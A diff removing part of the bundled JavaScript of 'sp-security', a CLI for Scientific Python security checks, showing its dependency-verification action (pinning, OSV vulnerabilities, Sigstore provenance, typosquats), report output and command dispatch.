-                const [repoInfo, branches, tags] = await Promise.all([
-                    rest.rest.repos.get({ owner, repo }),
-                    listRefs(owner, repo, 'heads'),
-                    listRefs(owner, repo, 'tags')
-                ]);
-                return { branches, tags, defaultBranch: repoInfo.data.default_branch };
-            }
-            catch (e) {
-                throw new Error(describeApiError(e, 'contents: read'));
-            }
-        },
-        async compare(owner, repo, base, head) {
-            try {
-                const r = await rest.rest.repos.compareCommitsWithBasehead({
-                    owner,
-                    repo,
-                    basehead: `${base}...${head}`,
-                    per_page: 1
-                });
-                return r.data.status;
-            }
-            catch (e) {
-                if (e.status === 404)
-                    return 'missing';
-                throw new Error(describeApiError(e));
-            }
-        },
-        async file(owner, repo, path, ref) {
-            try {
-                const r = await rest.rest.repos.getContent({ owner, repo, path, ref });
-                const data = r.data;
-                if (Array.isArray(r.data) || data.type !== 'file' || typeof data.content !== 'string')
-                    return undefined;
-                return Buffer.from(data.content, data.encoding || 'base64').toString('utf8');
-            }
-            catch (e) {
-                if (e.status === 404)
-                    return undefined;
-                throw new Error(describeApiError(e, 'contents: read'));
-            }
-        }
-    };
-}
-/**
- * The trusted root (a file, or the public-good root over TUF), built into a
- * verifier once: on worker threads when running from the bundle on a machine
- * with several cores, else in this thread.
- */
-async function provenanceChecker(file, tufCache) {
-    let text;
-    if (file) {
-        try {
-            text = await (0,promises_.readFile)(file, 'utf8');
-        }
-        catch (e) {
-            throw new UserError(`trusted-root: cannot read ${file} (${e.code ?? 'error'})`);
-        }
-    }
-    else {
-        text = JSON.stringify(protobuf_specs_dist.TrustedRoot.toJSON(await fetchTrustedRoot(tufCache)));
-    }
-    const root = verify_parseTrustedRoot(text, file ?? 'TUF trusted root');
-    const threads = Math.min((0,external_node_os_namespaceObject.availableParallelism)(), 4);
-    // Only this action's own bundle starts workerMain in a worker (not the sources under test, not the CLI bundle).
-    if (threads > 1 && /\/verify-deps\/dist\/index\.js$/.test(import.meta.url))
-        return startPool(new URL(import.meta.url), text, threads);
-    return inThreadChecker(new verify_BundleVerifier(root));
-}
-async function loadPolicy(ctx, root, path) {
-    const section = ctx.config.sections['verify-deps'];
-    let policy = section
-        ? policyFromData(section, ctx.config.file ?? '.github/security-actions.yml', () => undefined)
-        : EMPTY_POLICY;
-    if (path) {
-        let text;
-        try {
-            text = await (0,promises_.readFile)((0,external_node_path_.resolve)(root, path), 'utf8');
-        }
-        catch (e) {
-            throw new UserError(`Input 'policy': cannot read ${path} (${e.code ?? 'error'})`);
-        }
-        policy = mergePolicies(policy, parsePolicyFile(text, path));
-    }
-    return policy;
-}
-const src_main_definition = {
-    name: 'verify-deps',
-    rules: src_rules_REGISTRY,
-    configSchema: verify_deps_config_schema_namespaceObject,
-    // offline is itself the opt-out of the network checks: listing them as not checked must not fail the step.
-    failOnNotChecked: (ctx) => !ctx.inputs.boolean('offline', false) && ctx.inputs.boolean('fail-on-not-checked', true),
-    async run(ctx) {
-        const { inputs } = ctx;
-        const root = (0,external_node_path_.resolve)(ctx.workspace, inputs.string('path', { default: '.' }));
-        const checks = parseChecks(inputs.list('checks'));
-        const provenance = inputs.choice('provenance', ['require', 'warn', 'off'], 'warn');
-        const offline = inputs.boolean('offline', false);
-        inputs.boolean('fail-on-not-checked', true);
-        const globs = inputs.lines('files');
-        const policyPath = inputs.string('policy');
-        const diffBase = inputs.string('diff-base');
-        const token = inputs.string('token');
-        const trustedRoot = inputs.string('trusted-root');
-        const osvUrl = inputs.url('osv-url', 'https://api.osv.dev').replace(/\/+$/, '');
-        const pypiUrl = inputs.url('pypi-url', 'https://pypi.org').replace(/\/+$/, '');
-        const policy = await loadPolicy(ctx, ctx.workspace, policyPath);
-        const files = await collectFiles(root, globs);
-        const base = diffBase ? await filesAtBase(root, diffBase, files) : undefined;
-        const services = {};
-        if (!offline) {
-            if (token)
-                services.github = githubActionsApi(await ctx.github(token));
-            else
-                services.githubMissing = "no token: set the 'token' input (the default github.token is enough)";
-            const http = (service) => new HttpClient(service, { userAgent: 'security-actions verify-deps' });
-            services.osv = new OsvClient(osvUrl, http('OSV'));
-            services.pypi = new PyPIClient(pypiUrl, http('PyPI'));
-            services.verifier = async () => (checker = await provenanceChecker(trustedRoot ? (0,external_node_path_.resolve)(ctx.workspace, trustedRoot) : undefined, (0,external_node_path_.join)(ctx.env.RUNNER_TEMP || (0,external_node_path_.dirname)(root), 'sigstore-tuf')));
-        }
-        let checker;
-        const result = await verifyDeps({ python: files.python, actions: files.actions, base }, { checks, offline, provenance: stricterProvenance(provenance, policy.provenance), policy, now: new Date() }, services);
-        await checker?.close?.();
-        const requests = (services.osv?.http.requests ?? 0) + (services.pypi?.http.requests ?? 0);
-        return {
-            ...result,
-            errors: [...files.errors, ...(result.errors ?? [])],
-            stats: { ...result.stats, ...(requests ? { 'OSV and PyPI requests': requests } : {}) },
-            target: root,
-            outputs: { 'dependencies-count': String(result.count) }
-        };
-    }
-};
-async function src_main_run(runtime) {
-    await runAction(src_main_definition, runtime ?? (await actionsRuntime()));
-}
-
-;// CONCATENATED MODULE: ./packages/cli/src/commands/verify-deps.ts
-
-
-/** verify-deps as a check: the files it read come from its stats. */
-const verifyDepsCheck = {
-    definition: src_main_definition,
-    // Local runs start offline (no token, maybe no network); `--no-offline` turns the network checks on.
-    fixed: { offline: 'true' },
-    inputs: {
-        checks: 'checks',
-        offline: 'offline',
-        files: 'files',
-        policy: 'policy',
-        provenance: 'provenance',
-        'diff-base': 'diff-base',
-        token: 'token',
-        'osv-url': 'osv-url',
-        'pypi-url': 'pypi-url',
-        'trusted-root': 'trusted-root',
-        'fail-on-not-checked': 'fail-on-not-checked'
-    },
-    examined: (r) => {
-        const counts = [r.stats['Python files'], r.stats['workflow and action files']];
-        return counts.every((n) => typeof n === 'number') ? counts.reduce((a, b) => a + b, 0) : undefined;
-    },
-    looksFor: 'workflow (.github/workflows/*.yml), action (action.yml) or Python dependency file (requirements*.txt, pyproject.toml, uv.lock, poetry.lock, pylock.toml, environment.yml)',
-    filesFlag: 'files'
-};
-const verify_deps_verifyDeps = {
-    summary: 'verify Python dependencies and GitHub Actions pins: pinning, hashes, OSV, PEP 740 provenance, typosquats, impostor commits',
-    usage: '[--repo PATH] [--no-offline] [--diff-base REF] [options]',
-    checkout: true,
-    checks: [verifyDepsCheck],
-    options: {
-        checks: {
-            type: 'string',
-            value: 'LIST',
-            help: 'comma-separated checks: pinning, vulnerabilities, provenance, typosquats, actions (default: all)'
-        },
-        offline: {
-            type: 'boolean',
-            help: 'make no network request (the default here): the network checks are listed as not checked; --no-offline runs them'
-        },
-        files: { type: 'string', value: 'GLOB', help: 'check only the discovered files that match GLOB' },
-        policy: {
-            type: 'string',
-            value: 'FILE',
-            help: 'policy YAML file (publishers, allow-tags, ignore, cooldown-days, typosquat-allow)'
-        },
-        provenance: {
-            type: 'string',
-            value: 'MODE',
-            choices: ['require', 'warn', 'off'],
-            help: 'PEP 740 provenance: require, warn (default) or off'
-        },
-        'diff-base': { type: 'string', value: 'REF', help: 'report only what changed since this commit' },
-        token: {
-            type: 'string',
-            value: 'TOKEN',
-            env: 'GITHUB_TOKEN',
-            help: 'GitHub token for the action checks with --no-offline (default: $GITHUB_TOKEN; none: they are not checked)'
-        },
-        'osv-url': { type: 'string', value: 'URL', help: 'OSV API base URL (default: https://api.osv.dev)' },
-        'pypi-url': { type: 'string', value: 'URL', help: 'PyPI base URL (default: https://pypi.org)' },
-        'trusted-root': {
-            type: 'string',
-            value: 'FILE',
-            help: 'Sigstore trusted_root.json (default: fetched over TUF)'
-        },
-        'fail-on-not-checked': {
-            type: 'boolean',
-            help: 'with --no-offline, checks that could not run fail the run (default); --no-fail-on-not-checked lists them only'
-        },
-        ...REPO_OPTION,
-        ...REPORT_OPTIONS
-    }
-};
-
-;// CONCATENATED MODULE: ./packages/cli/src/commands/index.ts
-// The subcommands, one module each so that every action owns its own.
-
-
-
-
-
-
-
-/**
- * What `scan` runs: every check that needs only the checkout. A new check is
- * one more entry here (its flags map to its inputs in its own Check).
- */
-const SCAN_CHECKS = [verifyDepsCheck];
-const scan = {
-    summary: `run every check that needs only the checkout (${SCAN_CHECKS.map((c) => c.definition.name).join(', ')}), offline`,
-    usage: '[--repo PATH] [options]',
-    checkout: true,
-    checks: SCAN_CHECKS,
-    options: { ...REPO_OPTION, ...REPORT_OPTIONS }
-};
-const COMMANDS = {
-    scan,
-    init: init,
-    'verify-deps': verify_deps_verifyDeps,
-    'pr-scan': prScan,
-    audit: audit_audit,
-    verify: verify,
-    'verify-bundle': verifyBundle
-};
-
-;// CONCATENATED MODULE: ./packages/cli/src/output.ts
-// What a report command prints and writes: the report in the format asked
-// for on stdout (plain text, JSON, SARIF or GitHub workflow annotations), the
-// files named by --sarif and --json, and the verdict with its exit status.
-
-
-
-
-/**
- * The exit status: 2 when the run could not do what was asked (an error in
- * a report, or files named that matched nothing), 1 when an action would
- * fail its step (findings at or above --fail-on, or not-checked entries it
- * counts), 0 otherwise.
- */
-function verdictOf(runs, values, failOn, workspace) {
-    const statements = [];
-    let unmatched = false;
-    let nothing = runs.length > 0;
-    for (const { check, report } of runs) {
-        const examined = check.examined?.(report);
-        if (examined !== 0) {
-            nothing = false;
-            continue;
-        }
-        const named = check.filesFlag ? values[check.filesFlag] : undefined;
-        if (typeof named === 'string') {
-            unmatched = true;
-            statements.push(`${report.name}: --${check.filesFlag} '${named}' matched no file it checks (${check.looksFor}).`);
-        }
-        else {
-            statements.push(`${report.name}: nothing to check in ${workspace}: no ${check.looksFor} found.`);
-        }
-    }
-    const reports = runs.map((r) => r.report);
-    const errors = reports.reduce((n, r) => n + r.errors.length, 0);
-    const findings = reports.flatMap((r) => r.findings.filter(isActive));
-    const notChecked = reports.reduce((n, r) => n + r.notChecked.length, 0);
-    const failing = countsAtOrAbove(findings, failOn);
-    if (errors || unmatched) {
-        const what = [errors ? `${errors} error${errors === 1 ? '' : 's'}` : '', unmatched ? 'no file matched' : '']
-            .filter(Boolean)
-            .join(', ');
-        return {
-            code: EXIT.usage,
-            statements,
-            line: `ERROR: the run is incomplete (${what}); fix the input and run again`
-        };
-    }
-    if (runs.some((r) => r.failed)) {
-        const reasons = [
-            failing.length ? `${failing.join(', ')} at or above --fail-on ${failOn}` : '',
-            !failing.length && notChecked ? `${notChecked} check${notChecked === 1 ? '' : 's'} could not run` : ''
-        ].filter(Boolean);
-        return { code: EXIT.findings, statements, line: `FAIL: ${reasons.join('; ')}` };
-    }
-    if (nothing)
-        return { code: EXIT.ok, statements, line: 'NOTHING CHECKED: no file this command checks was found (see above)' };
-    const below = findings.length;
-    const extra = [
-        below ? `${below} finding${below === 1 ? '' : 's'} below it` : '',
-        notChecked ? `${notChecked} not checked` : ''
-    ].filter(Boolean);
-    return {
-        code: EXIT.ok,
-        statements,
-        line: `PASS: nothing at or above --fail-on ${failOn}${extra.length ? ` (${extra.join('; ')})` : ''}`
-    };
-}
-/** The reports as one: the report itself for one check; for several, everything together under the command's name. */
-function combine(name, reports) {
-    if (reports.length === 1)
-        return reports[0];
-    const rules = new Map(reports.flatMap((r) => r.rules).map((r) => [r.id, r]));
-    return {
-        tool: reports[0].tool,
-        name,
-        target: reports.find((r) => r.target)?.target,
-        startedAt: reports.map((r) => r.startedAt).sort()[0],
-        finishedAt: reports
-            .map((r) => r.finishedAt)
-            .sort()
-            .pop(),
-        rules: [...rules.values()],
-        findings: sortFindings(reports.flatMap((r) => r.findings)),
-        notChecked: reports.flatMap((r) => r.notChecked),
-        stats: Object.fromEntries(reports.flatMap((r) => Object.entries(r.stats).map(([k, v]) => [`${r.name}: ${k}`, v]))),
-        notes: reports.flatMap((r) => r.notes),
-        errors: reports.flatMap((r) => r.errors)
-    };
-}
-// Workflow command escaping, as @actions/core does it.
-const escapeData = (s) => s.replace(/%/g, '%25').replace(/\r/g, '%0D').replace(/\n/g, '%0A');
-const escapeProperty = (s) => escapeData(s).replace(/:/g, '%3A').replace(/,/g, '%2C');
-/** Every active finding as a workflow annotation; not-checked entries as warnings, errors as errors. */
-function githubAnnotations(report) {
-    const lines = [];
-    for (const a of annotationsFor(report, Infinity).annotations) {
-        const props = Object.entries({
-            file: a.file,
-            line: a.startLine,
-            col: a.startColumn,
-            endLine: a.endLine,
-            title: a.title
-        })
-            .filter(([, v]) => v !== undefined && v !== '')
-            .map(([k, v]) => `${k}=${escapeProperty(String(v))}`)
-            .join(',');
-        lines.push(`::${a.level}${props ? ` ${props}` : ''}::${escapeData(a.message)}`);
-    }
-    for (const n of report.notChecked)
-        lines.push(`::warning title=${escapeProperty(`Not checked: ${n.check}`)}::${escapeData(`${n.target ? `${n.target}: ` : ''}${n.reason}`)}`);
-    for (const e of report.errors)
-        lines.push(`::error title=${report.name}::${escapeData(e)}`);
-    return lines.map((l) => `${l}\n`).join('');
-}
-/** Prints the reports and the verdict in `format`; writes the --sarif and --json files. */
-async function emit(name, runs, verdict, opts) {
-    const { io, values } = opts;
-    const reports = runs.map((r) => r.report);
-    const paint = io.paint ?? ((_r, t) => t);
-    const sarif = () => JSON.stringify(toSarifLog(reports), null, 2) + '\n';
-    const json = () => JSON.stringify(combine(name, reports), null, 2) + '\n';
-    switch (opts.format) {
-        case 'plain':
-            for (const r of reports)
-                io.out(renderText(r, { paint }));
-            for (const s of verdict.statements)
-                io.out(`${s}\n`);
-            io.out(`${paint(verdict.code === EXIT.ok ? 'pass' : verdict.code === EXIT.usage ? 'error' : 'fail', verdict.line)}\n`);
-            break;
-        case 'json':
-            io.out(json());
-            break;
-        case 'sarif':
-            io.out(sarif());
-            break;
-        case 'github':
-            for (const r of reports)
-                io.out(githubAnnotations(r));
-            break;
-    }
-    if (opts.format !== 'plain') {
-        for (const s of verdict.statements)
-            io.err(s);
-        if (!opts.quiet || verdict.code)
-            io.err(verdict.line);
-    }
-    for (const [flag, text] of [
-        ['sarif', sarif],
-        ['json', json]
-    ]) {
-        const file = values[flag];
-        if (typeof file !== 'string')
-            continue;
-        const path = (0,external_node_path_.resolve)(io.cwd, file);
-        try {
-            await (0,promises_.mkdir)((0,external_node_path_.dirname)(path), { recursive: true });
-            await (0,promises_.writeFile)(path, text());
-            if (!opts.quiet)
-                io.err(`${flag === 'sarif' ? 'SARIF' : 'JSON report'} written to ${path}`);
-        }
-        catch (e) {
-            throw new UsageError(`--${flag} ${file}: cannot write (${e.code ?? e.message})`);
-        }
-    }
-}
-
-;// CONCATENATED MODULE: ./packages/cli/src/main.ts
-// sp-security: the actions' engines on a local checkout, with the same
-// options and reports. Every command declares its flags (commands/); this
-// file dispatches, prints help, and turns every failure into one line and an
-// exit status: 0 pass, 1 findings, 2 usage or input error. Never a stack trace.
-
-
-
-
-
-
-
-const GLOBAL_OPTIONS = {
-    help: { type: 'boolean', short: 'h', help: "show this help; 'sp-security COMMAND --help' shows a command's options" },
-    version: { type: 'boolean', short: 'V', help: 'print the version' }
-};
-function usage() {
-    const width = Math.max(...Object.keys(COMMANDS).map((n) => n.length)) + 4;
-    const cmds = Object.entries(COMMANDS)
-        .map(([n, c]) => {
-        const lines = wrap(c.summary, 96 - width);
-        return [`  ${n.padEnd(width)}${lines[0]}`, ...lines.slice(1).map((l) => ' '.repeat(width + 2) + l)].join('\n');
-    })
-        .join('\n');
-    return `sp-security ${VERSION}: the Scientific Python security checks (SPEC 6, SPEC 8) on a local checkout
-
-Usage: sp-security COMMAND [options]
-
-Commands:
-${cmds}
-
-Options:
-${formatOptions(GLOBAL_OPTIONS)}
-
-${wrap(EXIT_HELP, 100).join('\n')}
-`;
-}
-function commandHelp(name, c) {
-    const paragraphs = [
-        `Usage: sp-security ${name} ${c.usage ?? '[options]'}`,
-        wrap(c.summary.charAt(0).toUpperCase() + c.summary.slice(1) + '.', 100).join('\n'),
-        `Options:\n${formatOptions(c.options)}`,
-        ...(c.notes ?? []).map((n) => wrap(n, 100).join('\n')),
-        ...('checks' in c ? [wrap(EXIT_HELP, 100).join('\n')] : [])
-    ];
-    return `${paragraphs.join('\n\n')}\n`;
-}
-async function runReport(name, cmd, values, io) {
-    const mode = values.quiet ? 'quiet' : values.verbose ? 'verbose' : 'normal';
-    const { workspace, runs } = await runChecks(cmd, values, io, progress(io, mode));
-    const failOn = (values['fail-on'] ?? 'high');
-    const verdict = verdictOf(runs, values, failOn, workspace);
-    await emit(name, runs, verdict, {
-        format: (values.format ?? 'plain'),
-        values,
-        io,
-        quiet: mode === 'quiet'
-    });
-    return verdict.code;
-}
-async function main(argv, io) {
-    const [name, ...rest] = argv;
-    if (!name) {
-        io.err(usage().trimEnd());
-        return EXIT.usage;
-    }
-    if (name === '-h' || name === '--help' || name === 'help') {
-        const cmd = rest[0] && COMMANDS[rest[0]];
-        io.out(cmd ? commandHelp(rest[0], cmd) : usage());
-        return EXIT.ok;
-    }
-    if (name === '-V' || name === '--version' || name === 'version') {
-        io.out(`${VERSION}\n`);
-        return EXIT.ok;
-    }
-    const cmd = Object.hasOwn(COMMANDS, name) ? COMMANDS[name] : undefined;
-    if (!cmd) {
-        io.err(name.startsWith('-')
-            ? `sp-security: unknown option ${name}; options go after the command. Run 'sp-security --help' for the commands.`
-            : `sp-security: unknown command '${name}'. Run 'sp-security --help' for the list.`);
-        return EXIT.usage;
-    }
-    try {
-        const values = parseOptions(cmd, rest, io.env);
-        if (values.help) {
-            io.out(commandHelp(name, cmd));
-            return EXIT.ok;
-        }
-        return 'run' in cmd ? await cmd.run(values, io) : await runReport(name, cmd, values, io);
-    }
-    catch (e) {
-        // A usage error is the user's to fix; anything else is ours, still one line.
-        io.err(`sp-security ${name}: ${e instanceof UsageError ? e.message : `internal error: ${oneLine(e)}`}`);
-        return EXIT.usage;
-    }
-}
 
 
 /***/ }),
